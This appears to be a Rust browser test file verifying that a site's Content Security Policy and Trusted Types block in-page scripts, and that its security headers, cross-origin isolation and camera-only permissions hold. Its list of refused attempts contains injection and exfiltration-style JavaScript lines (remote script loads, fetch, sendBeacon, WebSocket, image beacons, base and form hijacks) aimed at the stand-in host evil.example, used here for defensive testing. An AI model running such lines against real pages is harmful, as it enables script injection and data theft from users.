//! What a script in the page cannot do, tried from a script in the page.

use onewindow::cli::site::policy;
use onewindow::text::{Lang, Say as _, screen};
use serde_json::{Value, json};

use crate::support::{Profile, Screen, Visitor, quote, site};

/// Trusted Types see what would become a script before the sources of scripts are looked at.
const SCRIPT: &str = "require-trusted-types-for|script-src|object-src";

/// An attempt and the directive that stops it, or those of which one does.
const REFUSED: &[(&str, &str)] = &[
    ("eval('1')", SCRIPT),
    ("Function('return 1')()", SCRIPT),
    (
        "document.body.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/a.js' }))",
        SCRIPT,
    ),
    ("document.body.innerHTML = '<p>x</p>'", "require-trusted-types-for"),
    ("trustedTypes.createPolicy('mine', {})", "trusted-types"),
    (
        "document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }))",
        "frame-src",
    ),
    (
        "document.body.append(Object.assign(document.createElement('object'), { data: 'https://evil.example/' }))",
        SCRIPT,
    ),
    (
        "document.body.append(Object.assign(new Image(), { src: 'https://evil.example/?name=x' }))",
        "img-src",
    ),
    (
        "fetch('https://evil.example/', { method: 'POST', body: 'x' }).catch(() => {})",
        "connect-src",
    ),
    ("navigator.sendBeacon('https://evil.example/', 'x')", "connect-src"),
    ("new WebSocket('wss://evil.example/')", "connect-src"),
    ("document.body.setAttribute('style', 'color: red')", "style-src"),
    (
        "document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'https://evil.example/a.css' }))",
        "style-src",
    ),
    (
        "document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' }))",
        "base-uri",
    ),
    (
        "(() => { const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/' }); document.body.append(form); form.submit() })()",
        "form-action",
    ),
];

#[test]
fn a_script_in_the_page_can_load_send_frame_and_evaluate_nothing() {
    let visitor = Visitor::new(&Profile::new(), Screen::Desktop);
    visitor.open(site().origin);
    visitor.see(&screen::Page::Look.say(Lang::Zh));
    let asked = visitor.requests().len();
    for (attempt, directive) in REFUSED {
        // In a task of its own: what the debugger evaluates itself may call `eval`.
        visitor.js(&format!(
            "(() => {{ ow.violations.length = 0; setTimeout(() => {{ try {{ {attempt} }} catch {{}} }}) }})()"
        ));
        let refused = format!("ow.violations.some(v => /^({directive})/.test(v))");
        visitor.wait(&refused, &format!("{directive} to stop {attempt}"));
    }
    // Chromium may open a connection for a frame or a form before it asks the policy; nothing is sent over it.
    let opened = |line: &String| line == "CONNECT evil.example:443";
    let outside = |line: &String| !line.starts_with(site().origin) && !opened(line);
    assert!(!visitor.requests()[asked..].iter().any(outside), "{:?}", visitor.requests());
}

#[test]
fn a_page_gets_every_header_is_isolated_and_is_offered_no_device_but_the_camera() {
    let visitor = Visitor::new(&Profile::new(), Screen::Desktop);
    visitor.open(site().origin);
    visitor.see(&screen::Page::Look.say(Lang::Zh));
    for (name, value) in
        policy::HEADERS.iter().chain([&("content-security-policy", policy::HEADER_CSP)])
    {
        let got =
            visitor.js(&format!("fetch('./').then(answer => answer.headers.get({}))", quote(name)));
        assert_eq!(got, Value::from(*value), "{name}");
    }
    assert_eq!(visitor.js("crossOriginIsolated"), json!(true));
    let allowed = visitor.js("document.featurePolicy.allowedFeatures().filter(f => ['camera', 'microphone', 'geolocation', 'usb', 'serial', 'hid', 'midi', 'payment', 'display-capture'].includes(f))");
    assert_eq!(allowed, json!(["camera"]));
}
